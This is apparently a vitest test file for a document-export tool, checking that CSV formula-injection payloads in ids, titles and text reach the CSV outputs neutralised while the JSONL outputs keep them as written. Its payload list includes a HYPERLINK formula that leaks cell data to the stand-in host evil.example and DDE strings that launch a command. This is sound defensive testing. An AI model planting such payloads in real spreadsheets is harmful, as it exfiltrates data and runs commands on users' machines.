/**
 * Spreadsheet safety end to end (issue 7): formula payloads in ids, titles
 * and texts reach every CSV file neutralised (no text cell starts with =, +,
 * -, @, tab or CR), while the JSONL files keep the original text.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { run } from "../../src/io/run.js";
import { tempTree } from "../io/helpers.js";
import { EN, jsonl } from "./fixtures.js";

const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
const FORMULA = /^[=+\-@\t\r]/;

describe("formula payloads", () => {
  it("are neutralised in every CSV text cell and kept as written in JSONL", async () => {
    const docs = PAYLOADS.map((p, i) => ({ id: p, title: p, source: p, url: `${p}/${i}`, text: `${p}\n${EN}\n\t=1+1 ${EN}` }));
    const dir = tempTree({ "payloads.jsonl": jsonl(...docs) });
    const out = join(dir, "out");
    await run({ inputs: [dir], out, formats: ["jsonl", "csv"], lang: "auto", published: null, concurrency: 1, maxDocBytes: 1_000_000, deterministic: true });
    let cells = 0;
    for (const name of ["documents.csv", "events.csv", "counts.csv"]) {
      const { data } = Papa.parse<string[]>(readFileSync(join(out, name), "utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true });
      for (const row of data.slice(1)) {
        for (const value of row) {
          // A bare number (a number column) is not a formula: "-3" stays a number.
          if (/^-?\d+(\.\d+)?$/.test(value)) continue;
          expect(value, `${name}: ${value}`).not.toMatch(FORMULA);
          cells++;
        }
      }
    }
    const docRows = Papa.parse<Record<string, string>>(readFileSync(join(out, "documents.csv"), "utf8").replace(/^\uFEFF/, ""), { header: true }).data;
    expect(docRows.filter((r) => r.doc_id).map((r) => r.doc_id)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(docRows.filter((r) => r.doc_id).map((r) => r.title)).toEqual(PAYLOADS.map((p) => `'${p}`));
    const events = readFileSync(join(out, "events.jsonl"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(new Set(events.map((e) => e.doc_id))).toEqual(new Set(PAYLOADS));
    const counts = readFileSync(join(out, "counts.jsonl"), "utf8").trim().split("\n").map((l) => JSON.parse(l));
    expect(counts.some((c) => PAYLOADS.includes(c.doc_id))).toBe(true);
    expect(cells).toBeGreaterThan(50);
  });
});
